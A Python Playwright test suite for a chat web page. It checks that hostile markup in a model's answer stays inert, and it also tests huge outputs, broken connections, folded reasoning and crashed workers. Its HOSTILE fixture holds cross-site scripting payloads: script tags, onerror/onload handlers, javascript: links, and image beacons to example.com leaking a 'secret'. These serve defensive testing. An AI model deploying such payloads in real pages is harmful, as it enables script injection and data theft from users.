"""What a model may say to do harm, and what breaks in mid-answer: nothing runs, nothing leaves, and the page says so."""

from __future__ import annotations

import os
import re
import signal
from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.api_server import MODEL, ApiServer
from tests.page.scripted_upstream import ScriptedUpstream
from tests.page.visitor import SCRIPTED, set_settings

pytestmark = [pytest.mark.browser, pytest.mark.starter, pytest.mark.slow]
Visit = Callable[..., Page]
HOSTILE = """<script>window.hacked = 1</script>
<img src="x" onerror="window.hacked = 2"> ![leak](http://example.com/leak.png?secret) <img src="//example.com/a.png">

[click me](javascript:window.hacked=3) <a href="javascript:window.hacked=4">or me</a> <svg onload="window.hacked=5"></svg>

<iframe src="http://example.com"></iframe><form action="http://example.com"><input name="k"></form>
<style>body { display: none; background: url(http://example.com/b.png) }</style>
<p style="position:fixed;inset:0;background:url(http://example.com/c.png)">covering</p>

$\\href{javascript:window.hacked=6}{x}$ [a link](http://example.com/fine)

The end.
"""


@pytest.fixture
def scripted(visit: Visit) -> Callable[..., Page]:
    """A page that talks with the scripted endpoint through the gateway, as with any remote model."""

    def opened(**options: object) -> Page:
        page = visit("chat", settings=SCRIPTED, **options)
        expect(page.get_by_role("combobox", name="Model")).to_have_value("openai:scripted")
        return page

    return opened


def ask(page: Page, text: str = "Go") -> None:
    page.get_by_role("textbox", name="Message").fill(text)
    page.keyboard.press("Enter")


def answered(page: Page) -> None:
    expect(page.get_by_role("button", name="Send")).to_be_visible(timeout=60_000)


def test_hostile_markup_is_inert(scripted: Callable[..., Page], upstream: ScriptedUpstream) -> None:
    upstream.pieces = re.findall(r"[\s\S]{1,7}", HOSTILE)
    page = scripted(expects="inline event handler")  # the browser's report that the policy would have stopped it
    ask(page)
    expect(page.get_by_text("The end.")).to_be_visible()
    answered(page)
    for link in page.locator(".markdown a").all():
        assert not (link.get_attribute("href") or "").startswith("javascript")
        assert link.get_attribute("rel") == "noopener noreferrer"
    assert page.evaluate("window.hacked") is None
    for selector in ("script", "iframe", "form", "style", "img", "[onerror]", "[onload]", "p[style]"):
        assert page.locator(f".markdown {selector}").count() == 0, selector
    page.reload()
    expect(page.get_by_text("The end.")).to_be_visible()
    assert page.evaluate("window.hacked") is None


def test_a_line_of_a_megabyte_and_a_table_of_ten_thousand_cells_do_not_stop_the_page(
    scripted: Callable[..., Page], upstream: ScriptedUpstream
) -> None:
    table = "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + ("|" + "1|" * 100 + "\n") * 100
    upstream.pieces = ["x" * 1_000_000, "\n\n", table, "\n\nThe end."]
    page = scripted()
    ask(page)
    expect(page.get_by_text("The end.")).to_be_visible(timeout=60_000)
    answered(page)
    expect(page.get_by_text("shortened").first).to_be_visible()
    page.get_by_role("textbox", name="Message").fill("still alive")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_a_connection_cut_in_mid_answer_keeps_what_came_and_one_click_goes_on(
    scripted: Callable[..., Page], upstream: ScriptedUpstream
) -> None:
    upstream.pieces, upstream.breaks_after = ["Half ", "of ", "it. ", "Rest."], 3
    page = scripted(expects="Failed to load|ERR_")
    ask(page)
    answered(page)
    expect(page.locator(".markdown")).to_contain_text("Half of it.")
    expect(page.get_by_role("article").get_by_text("broke off")).to_be_visible()
    expect(page.locator(".toast.is-error")).to_be_visible()
    upstream.pieces, upstream.breaks_after = [" And the rest."], None
    page.get_by_role("button", name="Answer again").click()
    expect(page.locator(".markdown")).to_contain_text("And the rest.")


def test_thinking_is_folded(scripted: Callable[..., Page], upstream: ScriptedUpstream) -> None:
    upstream.reasoning, upstream.pieces = ["Hmm, ", "let me see."], ["Four."]
    page = scripted()
    expect(page.get_by_text("runs on another machine")).to_be_visible()
    ask(page, "2 + 2?")
    answered(page)
    expect(page.locator(".markdown")).to_have_text("Four.")
    expect(page.get_by_text("let me see.")).to_be_hidden()
    page.get_by_text("Thinking").click()
    expect(page.get_by_text("Hmm, let me see.")).to_be_visible()


def test_a_worker_that_dies_in_mid_answer_is_said_and_the_next_question_works(visit: Visit, server: ApiServer) -> None:
    page = visit("chat", expects="Failed to load|ERR_", settings={"max_tokens": 600, "temperature": 0})
    expect(page.get_by_role("combobox", name="Model")).to_have_value(MODEL)
    ask(page, "Write a long story about a lighthouse.")
    expect(page.locator(".markdown").last).to_contain_text(re.compile(r"\w+ \w+"), timeout=60_000)
    workers = [row for row in server.http.get("/ninestory/v1/ps").json()["data"] if "smollm2" in row["model"]]
    os.kill(workers[0]["pid"], signal.SIGKILL)
    expect(page.get_by_role("article").get_by_text("broke off")).to_be_visible()
    answered(page)
    set_settings(page, {"max_tokens": 4, "temperature": 0})
    expect(page.get_by_role("article", name="Assistant")).to_have_count(1)
    expect(page.get_by_role("combobox", name="Model")).to_have_value(MODEL)
    ask(page, "Hello again")
    expect(page.get_by_role("article", name="Assistant")).to_have_count(2, timeout=60_000)
    answered(page)
    expect(page.locator(".toast.is-error")).to_have_count(0)
